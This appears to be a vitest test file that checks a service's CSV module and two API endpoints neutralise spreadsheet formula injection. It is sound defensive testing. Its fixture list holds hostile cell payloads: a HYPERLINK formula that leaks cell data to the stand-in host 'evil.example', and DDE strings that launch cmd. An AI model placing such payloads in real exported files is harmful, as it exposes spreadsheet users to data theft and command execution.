// Issue 13, finding 12: CSV formula injection and the one CSV module.
// `check-batch` echoed `=1+2`, `@SUM(A1)` and `=HYPERLINK(…)` into the CSV
// it answers, and the service report's CSV wrote names unquoted. Over a
// real socket against a real central: every text cell a spreadsheet would
// run comes back neutralised (a leading `'`), numbers — negative ones too —
// stay numbers, and quotes, commas, line breaks and a byte-order mark
// survive a round trip through central/lib/csv.ts, the module every CSV
// reader and writer uses.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { readCsv, writeCsv } from "../../central/lib/csv.ts";
import { FIXTURE_FLEET } from "../helpers/central-fixture.ts";
import { type CentralUnderTest, startCentralUnderTest } from "../helpers/central-under-test.ts";

const INJECTIONS = [
  "=1+2",
  "@SUM(A1)",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+2",
  "\r=1+2",
];

describe("finding 12: CSV", () => {
  describe("central/lib/csv.ts", () => {
    it("round-trips quotes, commas, line breaks and leading spaces; reads a byte-order mark and `;` files", () => {
      const records = [
        ["name", "note", "value"],
        ['He said "hi"', "a,b", "1.5"],
        ["line\r\nbreak", "lf\nonly", "-5"],
        [" padded ", "", "0"],
        ["ПС 110/10 «Север»", "😀", "1e3"],
      ];
      const text = writeCsv(records);
      expect(text.endsWith("\r\n")).toBe(true);
      expect(readCsv(text).rows).toEqual(records);
      expect(readCsv(`\ufeff${text}`).rows).toEqual(records);
      const semicolons = '\ufeffname;lat;lon\r\n"Ферма; север";44,1;43,5\r\n\r\nB;1;2\r\n';
      const read = readCsv(semicolons);
      expect(read.rows).toEqual([
        ["name", "lat", "lon"],
        ["Ферма; север", "44,1", "43,5"],
        ["B", "1", "2"],
      ]);
      expect(read.lines).toEqual([1, 2, 4]);
    });

    it("neutralises formula prefixes in text cells, and leaves numbers (negative too) as numbers", () => {
      const out = readCsv(writeCsv([[...INJECTIONS, -5, "-5.000", "+3", "-1e-3", "ok", "a=b"]])).rows[0]!;
      expect(out.slice(0, INJECTIONS.length)).toEqual(INJECTIONS.map((s) => `'${s}`));
      expect(out.slice(INJECTIONS.length)).toEqual(["-5", "-5.000", "+3", "-1e-3", "ok", "a=b"]);
    });
  });

  describe("over central's socket", () => {
    let c: CentralUnderTest;
    beforeAll(async () => {
      const assets = FIXTURE_FLEET.assets.map((a) =>
        a.id === "T01" ? { ...a, name: '=HYPERLINK("http://evil.example","T01")' } : a,
      );
      c = await startCentralUnderTest({ config: { assets } });
    });
    afterAll(async () => {
      await c?.close();
    });

    it("check-batch answers injection names neutralised, negative coordinates as numbers", async () => {
      // What an attacker uploads: plain RFC 4180, names quoted but not neutralised.
      const quoted = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
      const body = [
        "name,lat,lon,mw,kind",
        ...INJECTIONS.map((name, i) => `${quoted(name)},${44 + i / 100},-43.5,10,generation`),
      ].join("\r\n");
      expect(body).toContain('"=1+2"');
      const res = await c.request("/api/v1/grid/check-batch?lang=en", {
        method: "POST",
        headers: { "content-type": "text/csv" },
        body,
      });
      expect(res.status).toBe(200);
      const { rows } = readCsv(await res.text());
      const header = rows[0]!;
      const name = header.indexOf("name");
      const lon = header.indexOf("lon");
      // The batch trims names (a leading tab or CR goes), then the formula is neutralised.
      expect(rows.slice(1).map((r) => r[name])).toEqual(INJECTIONS.map((s) => `'${s.trim()}`));
      for (const r of rows.slice(1)) expect(r[lon]).toBe("-43.5");
      // No cell of the answer starts with a formula character unless it is a number.
      for (const r of rows)
        for (const cell of r) if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
    });

    it("the service report's CSV neutralises an asset name that is a formula", async () => {
      const month = new Date().toISOString().slice(0, 7);
      const res = await c.request(`/api/v1/reports/service?company=sc-north&month=${month}&format=csv`, {
        token: c.tokens.admin,
      });
      expect(res.status).toBe(200);
      const { rows } = readCsv(await res.text());
      const t01 = rows.find((r) => r[0] === "T01");
      expect(t01, JSON.stringify(rows)).toBeDefined();
      expect(t01![1]).toBe(`'=HYPERLINK("http://evil.example","T01")`);
      for (const r of rows)
        for (const cell of r) if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
    });
  });
});
